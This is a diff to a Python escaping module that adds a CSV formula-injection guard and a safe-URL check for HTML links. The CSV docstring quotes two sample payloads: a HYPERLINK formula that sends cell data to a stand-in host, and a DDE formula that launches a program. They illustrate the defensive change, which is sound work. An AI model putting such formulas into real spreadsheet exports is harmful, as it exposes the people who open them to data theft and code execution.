@@ -15,8 +15,10 @@ gatekeeper goes through one function here, chosen by the reader of the output:
   overrides) shown as ``\\xNN`` instead of being interpreted.
 - XML 1.0: characters the format cannot carry shown as ``\\xNN``.
 - POSIX shell (a generated script): each word single-quoted (``shlex.quote``).
+- CSV (a spreadsheet export): a cell that starts a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
+  return) starts with ``'`` instead, so a spreadsheet shows it as text.
 
-Every function for a rendered format (markdown, Slack, HTML, shell) redacts its text first
+Every function for a rendered format (markdown, Slack, HTML, shell, CSV) redacts its text first
 (``gatekeeper.core.redact``): once escaped, a secret's shape is no longer one the
 redactor knows (``\\{'Authorization': ...``, ``&#x27;password&#x27;``), so the
 redaction of the written file or message would come too late.
@@ -37,7 +39,9 @@ from gatekeeper.core.redact import redact
 
 __all__ = [
     "ZWSP",
+    "csv_cell",
     "html_text",
+    "html_url",
     "md_code_block",
     "md_code_span",
     "md_link",
@@ -210,6 +214,29 @@ def html_text(text: object) -> str:
     import html  # here, not at the top: its entity table (0.5 MB) is for the HTML writers alone
 
     return html.escape(redact(str(text)))
+
+
+def html_url(url: object) -> str | None:
+    """An http(s) URL as an HTML attribute value (redacted, escaped), or None (then show no link): a
+    ``javascript:`` or ``data:`` URL from a file never becomes an ``href``, whatever the page's CSP does."""
+    safe = _safe_url(redact(str(url))) if url else None
+    return None if safe is None else html_text(safe)
+
+
+# ------------------------------------------------------------------ CSV
+
+_CSV_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(text: object) -> str:
+    """One cell of a CSV export: redacted, and a leading ``= + - @`` (or tab, carriage return) behind a ``'``.
+
+    A spreadsheet runs a cell that starts so as a formula: ``=HYPERLINK("https://x.invalid/?"&B2, "report")``
+    sends other cells away when clicked, ``=cmd|' /C calc'!A1`` starts a program in older Excel (OWASP, "CSV
+    injection"). The csv module quotes separators, quotes and newlines; this is the rest.
+    """
+    cell = redact(str(text))
+    return "'" + cell if cell.startswith(_CSV_FORMULA) else cell
 
 
 # ------------------------------------------------------------------ shell
